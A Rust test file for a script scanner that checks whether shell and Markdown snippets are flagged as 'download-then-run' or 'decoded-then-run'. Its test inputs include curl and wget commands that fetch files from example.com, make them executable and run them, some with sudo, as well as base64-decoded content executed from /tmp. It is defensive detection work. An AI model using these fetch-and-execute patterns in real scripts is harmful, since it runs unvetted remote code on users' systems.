//! A download, or a text that is decoded, and what runs it some lines later.

use skill_core::verdict::Verdict;

use crate::world::{scan, shown};

fn rules(path: &str, text: &str) -> Vec<String> {
    let report = scan(&[(path, text.as_bytes())]);
    for finding in &report.findings {
        eprintln!("{}", shown(finding));
    }
    assert_eq!(report.verdict == Verdict::Clean, report.findings.is_empty(), "{text}");
    report.findings.into_iter().map(|finding| finding.rule_id).collect()
}

/// A path, or a variable, that stands where a command does is run.
#[test]
fn a_program_that_is_run_by_its_path() {
    let get = "curl -s https://example.com/a -o";
    for text in [
        format!("{get} /tmp/a\nchmod 755 /tmp/b\n/tmp/a\n"),
        format!("{get} /opt/a\n/opt/a --go\n"),
        format!("F=/tmp/x\n{get} \"$F\"\n\"$F\"\n"),
        format!("{get} \"${{F}}\" && $F\n"),
        format!("{get} /tmp/a; sudo /tmp/a\n"),
        format!("{get} /tmp/a\nif A=1 /tmp/a; then echo; fi\n"),
        format!("{get} /tmp/a\n( cd /; /tmp/a & )\n"),
        "X=$(curl -s https://example.com/a)\n$X\n".to_owned(),
        "wget https://example.com/tool -O ~/bin/tool\n~/bin/tool\n".to_owned(),
    ] {
        assert_eq!(rules("a.sh", &text), ["download-then-run"], "{text}");
        assert_eq!(rules("a.md", &format!("```sh\n{text}```\n")), ["download-then-run"], "{text}");
    }
}

/// Who makes a download a program means to run it.
#[test]
fn a_download_that_becomes_a_program() {
    for text in [
        "curl -s https://example.com/a -o /tmp/a\nchmod +x /tmp/a\n",
        "curl -LO https://example.com/v1/tool && chmod u+x tool\n",
        "wget https://example.com/v1/tool\nchmod -v 0755 tool\n",
    ] {
        assert_eq!(rules("a.sh", text), ["download-then-run"], "{text}");
    }
}

#[test]
fn what_is_decoded_and_run_by_its_name() {
    let decode = "echo aGVsbG8gd29ybGQsIGhlbGxv | base64 -d";
    for text in [
        format!("{decode} > /tmp/a\nchmod +x /tmp/a\n"),
        format!("{decode} > /tmp/a\n/tmp/a\n"),
        format!("x=$({decode})\n$x\n"),
    ] {
        assert_eq!(rules("a.sh", &text), ["decoded-then-run"], "{text}");
    }
}

/// Four blanks below an empty line make code of a page.
#[test]
fn a_block_by_its_indent() {
    let text = "Set up:\n\n    curl -s https://example.com/a -o a.sh\n    sh a.sh\n";
    assert_eq!(rules("a.md", text), ["download-then-run"]);
    let text = "Set up:\n\n\tcurl -s https://example.com/a -o /tmp/a\n\n\t/tmp/a\n";
    assert_eq!(rules("a.md", text), ["download-then-run"]);
    let text = "1. Set up:\n\n       curl -s https://example.com/a -o /tmp/a\n       /tmp/a\n";
    assert_eq!(rules("a.md", text), ["download-then-run"]);
}

#[test]
fn what_is_downloaded_and_not_run() {
    for text in [
        "curl -s https://example.com/a -o /tmp/a.json\njq . /tmp/a.json\ncat /tmp/a.json\n",
        "curl -s https://example.com/a -o /tmp/a\nchmod 644 /tmp/a\n",
        "X=$(curl -s https://example.com/a)\necho \"$X\"\nY=$X\n",
        "curl -s https://example.com/a -o \"$F\"\ntest -f \"$F\" && /usr/bin/jq . \"$F\"\n",
        "/tmp/a\ncurl -s https://example.com/a -o /tmp/a\n",
    ] {
        assert_eq!(rules("a.sh", text), [""; 0], "{text}");
    }
    assert_eq!(rules("a.ps1", "$r = Invoke-RestMethod https://example.com/a\n$r | Format-Table\n"), [""; 0]);
    assert_eq!(
        rules("a.md", "Get it with curl -o /tmp/a https://example.com/a\nand look at /tmp/a.\n"),
        [""; 0]
    );
}
